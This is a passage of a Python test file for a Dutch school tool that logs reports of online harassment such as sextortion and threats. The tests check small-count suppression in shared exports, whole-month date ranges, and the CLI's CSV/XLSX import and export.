    assert platforms.pop("WhatsApp") == ("10", "")
    assert set(platforms.values()) == {("<NA>", "< 5")}  # Snapchat's 1 like the zeros
    assert forms[Form.SEXTORTION.label] == forms[Form.THREATS.label]  # 1 and 0 alike
    months = {w: c for (k, w), c in rows.items() if k == "Maand"}
    assert months["2025-10"] == ("10", "")
    later = [c for m, c in months.items() if m > "2025-10"]
    assert len(later) > 1 and set(later) == {("<NA>", "< 5")}  # November like the empty ones


def test_share_export_counts_whole_months(tmp_path):
    """Ranges a day apart (Nov 1 - Nov 11: no report, Nov 1 - Nov 12: 1) give one file."""
    store = issue_school(tmp_path)
    first = share_frame(store, Filters(start=date(2025, 11, 1), end=date(2025, 11, 11)))
    second = share_frame(store, Filters(start=date(2025, 11, 1), end=date(2025, 11, 12)))
    assert first.equals(second)
    assert set(first["Periode"]) == {"2025-11 t/m 2025-11"}


# --- 4. command line ----------------------------------------------------------------------------


def test_cli_import_dry_run_prints_summary_and_stores_nothing(tmp_path):
    url = f"sqlite:///{tmp_path}/cli.sqlite"
    path = write(tmp_path, "f.csv", csv_bytes([row(1), row(2, Platform="Myspace"), row(3)]))
    done = cli("import", str(path), "--db", url, "--add-schools")
    assert done.returncode == 0, done.stderr
    assert "Let op: Nieuwe scholen, komen op de lijst: 'De Regenboog'." in done.stdout
    assert "3 rijen: 2 zouden worden toegevoegd, 0 al aanwezig, 1 geweigerd." in done.stdout
    assert "proefdraai" in done.stdout
    assert (
        "rij 3: geweigerd" in done.stdout and "Platforms: onbekende waarde 'Myspace'" in done.stdout
    )
    assert lookup.count_incidents(Store(url)) == 0


def test_cli_export_refuses_another_extension(source, tmp_path):
    out = tmp_path / "x.txt"
    done = cli("export", "--db", source.url, "--out", str(out))
    assert done.returncode != 0
    assert "kies een bestandsnaam op .csv of .xlsx" in done.stderr
    assert "Traceback" not in done.stderr
    assert not out.exists()


def test_cli_export_filters_on_year_and_school(source, tmp_path):
    out = tmp_path / "regenboog.csv"
    done = cli(
        "export",
        "--db",
        source.url,
        "--out",
        str(out),
        "--year",
        "2025-2026",
        "--school",
        "De Regenboog",
    )
    assert done.returncode == 0, done.stderr
    header, *lines = csv_cells(out)
    with source.reading() as conn:
        expected = conn.execute(
            sa.select(sa.func.count())
            .select_from(incidents)
            .where(
                incidents.c.school == "De Regenboog",
                incidents.c.reported_on.between(date(2025, 8, 1), date(2026, 7, 31)),
            )
        ).scalar_one()
    assert 0 < expected < 300
    assert len(lines) == expected
    assert f"{expected} meldingen in {out}" in done.stdout
    school, day = header.index("School"), header.index("Datum melding")
    assert {line[school] for line in lines} == {"De Regenboog"}
    assert all("2025-08-01" <= line[day] <= "2026-07-31" for line in lines)


def test_cli_xlsx_export_imports_again_into_a_new_database(source, tmp_path):
    out = tmp_path / "meldingen.xlsx"
    done = cli("export", "--db", source.url, "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert openpyxl.load_workbook(out).active.max_row == lookup.count_incidents(source) + 1
    fresh = f"sqlite:///{tmp_path}/opnieuw.sqlite"
    again = cli("import", str(out), "--db", fresh, "--commit", "--add-schools")
    assert again.returncode == 0, again.stderr
    assert "Traceback" not in again.stderr
    assert lookup.count_incidents(Store(fresh)) == lookup.count_incidents(source)
